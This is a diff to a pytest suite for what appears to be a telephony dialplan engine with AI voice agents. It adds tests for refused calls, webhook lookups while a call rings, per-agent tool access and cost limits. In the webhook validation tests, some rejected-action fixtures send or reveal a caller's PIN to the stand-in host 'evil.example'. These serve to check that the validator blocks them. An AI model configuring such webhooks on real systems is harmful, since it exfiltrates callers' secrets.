@@ -8,6 +8,7 @@ from pathlib import Path
 import pytest
 
 from telbridge.dialplan import orders
+from telbridge.dialplan.engine import opening, preparing
 from telbridge.dialplan.inputs import Done, Ended, Failed, Happened, Key, ToolCancelled
 from tests.dialplan.line import Line, kinds, only, said
 from tests.dialplan.support import NOW, facts, plan
@@ -48,6 +49,12 @@ class TestOpening:
         line = Line(plan(tmp_path, text))
         assert kinds(line.wait(6)) == ["HangUp"]
 
+    def test_who_refuses_is_not_left_in_a_silent_call(self, tmp_path: Path) -> None:
+        text = 'notice = { say = "Press 1.", accept = "1", timeout_s = 5, refused = { tag = "no" } }'
+        assert kinds(Line(plan(tmp_path, text)).wait(6)) == ["Tag", "HangUp"]
+        text = text.replace('{ tag = "no" }', '[{ tag = "not recorded" }, "connect"]')
+        assert kinds(Line(plan(tmp_path, text)).wait(6)) == ["Tag", "Connect"]
+
     def test_an_agent_that_waits(self, tmp_path: Path) -> None:
         line = Line(plan(tmp_path, 'agent_waits = true\nkeys.1 = "connect"'))
         assert line.all == []
@@ -84,6 +91,81 @@ class TestOpening:
         text = '[session]\nlanguage = "{{ headers.x_lang }}"\nvoice = "marin"'
         wanted = plan(tmp_path, text).opening(facts(headers={"X-Lang": "!!"}), NOW).wanted
         assert (wanted.left_out, wanted.neutral.voice) == (("language",), "marin")
+
+
+class TestLookup:
+    TEXT = """
+    vars.tier = "none"
+    on.ringing = [
+      { webhook = "https://crm.example/who", as = "crm", on_error = { set.tier = "unknown" } },
+      { set.tier = "{{ answers.crm.tier }}" },
+    ]
+    greeting = "Hello {{ answers.crm.name or 'there' }}."
+    session.instructions = "The caller's tier is {{ vars.tier }}."
+    """
+
+    def test_the_session_knows_what_was_looked_up_while_it_rang(self, tmp_path: Path) -> None:
+        line = Line(plan(tmp_path, self.TEXT), answered=False)
+        hook = only(line.event("ringing"), orders.CallWebhook)
+        assert preparing(line.state)
+        line.done(hook, {"name": "Ann", "tier": "gold"})
+        assert not preparing(line.state)
+        made = opening(line.plan, line.state, 0)
+        assert made.greeting_text == "Hello Ann."
+        assert made.wanted.neutral.instructions == "The caller's tier is gold."
+
+    def test_a_server_that_does_not_answer_delays_it_for_a_bounded_time(self, tmp_path: Path) -> None:
+        line = Line(plan(tmp_path, self.TEXT), answered=False)
+        line.event("ringing")
+        line.wait(60)
+        assert not preparing(line.state)
+        assert opening(line.plan, line.state, 60_000_000_000).greeting_text == "Hello there."
+        assert line.state.vars["tier"] == "unknown"
+
+    def test_a_call_can_be_refused_while_it_rings(self, tmp_path: Path) -> None:
+        text = 'on.ringing = { hangup = "busy", when = "calls_before > 9" }'
+        line = Line(plan(tmp_path, text), facts(calls_before=10), answered=False)
+        assert only(line.event("ringing"), orders.HangUp).cause == "busy"
+
+
+class TestToolsOfNow:
+    TEXT = """
+    keys.1 = { update.tools = ["look", "refund"] }
+    keys.2 = { switch_agent = "other" }
+    session.tools = ["look"]
+    profiles.other = { agent = "deepgram", tools = [] }
+    tools.look = { description = "Looks.", do = { tag = "looked" } }
+    tools.refund = { description = "Pays back.", do = { tag = "paid" } }
+    """
+
+    def test_a_session_names_its_tools(self, tmp_path: Path) -> None:
+        wanted = plan(tmp_path, self.TEXT).opening(facts(), NOW).wanted
+        assert [tool.name for tool in wanted.neutral.tools or ()] == ["look"]
+
+    def test_a_tool_that_is_not_offered_cannot_be_called(self, tmp_path: Path) -> None:
+        line = Line(plan(tmp_path, self.TEXT))
+        assert only(line.tool("refund"), orders.ToolResult).failed
+        update = only(line.key("1"), orders.Update)
+        assert [tool.name for tool in update.wanted.neutral.tools or ()] == ["look", "refund"]
+        assert only(line.tool("refund"), orders.Tag).text == "paid"
+
+    def test_another_agent_has_its_own(self, tmp_path: Path) -> None:
+        line = Line(plan(tmp_path, self.TEXT))
+        line.done(only(line.key("2"), orders.SwitchAgent))
+        assert only(line.tool("look"), orders.ToolResult).failed
+
+    def test_the_old_agents_call_gets_no_result_from_the_new_one(self, tmp_path: Path) -> None:
+        text = (
+            self.TEXT.replace('["look"]', '["look", "slow"]')
+            + """
+        tools.slow = { description = "Slow.", http = "https://x.example/", timeout_s = 2 }
+        """
+        )
+        line = Line(plan(tmp_path, text))
+        request = only(line.tool("slow"), orders.CallHttp)
+        line.done(only(line.key("2"), orders.SwitchAgent))
+        assert line.done(request, {"x": 1}) == []
+        assert line.wait(60) == []
 
 
 class TestEvents:
@@ -170,6 +252,19 @@ class TestLimits:
         line = Line(plan(tmp_path, text))
         assert said(line.wait(81)) == ["20 seconds left."]
         assert only(line.wait(20), orders.HangUp).cause == "limit"
+
+    def test_money_runs_by_the_price_of_each_agent(self, tmp_path: Path) -> None:
+        text = """
+        limits = { cost = 1.0, warn_s = 30, per_minute = { openai_realtime = 0.60, other = 0.30 } }
+        keys.1 = { switch_agent = "deepgram" }
+        on.limit_near = { tag = "{{ limit }} {{ left }} {{ cost }}" }
+        """
+        line = Line(plan(tmp_path, text))
+        line.wait(50)
+        line.done(only(line.key("1"), orders.SwitchAgent))  # Half is spent; 100 s are left at half the price.
+        assert only(line.wait(71), orders.Tag).text == "cost 30 0.85"
+        assert "HangUp" not in kinds(line.wait(28))
+        assert only(line.wait(2), orders.HangUp).cause == "limit"
 
 
 class TestLists:
@@ -269,6 +364,7 @@ class TestWebhooks:
             "dance",
             [{"say": "{{ a. }}"}],
             [{"webhook": "https://evil.example", "send": {"x": "{{ digits.pin }}"}, "reveal": ["pin"]}],
+            [{"say": "x", "on_error": {"webhook": "https://evil.example", "reveal": ["pin"]}}],
         ],
     )
     def test_actions_that_are_wrong_are_an_error(self, tmp_path: Path, actions: object) -> None:
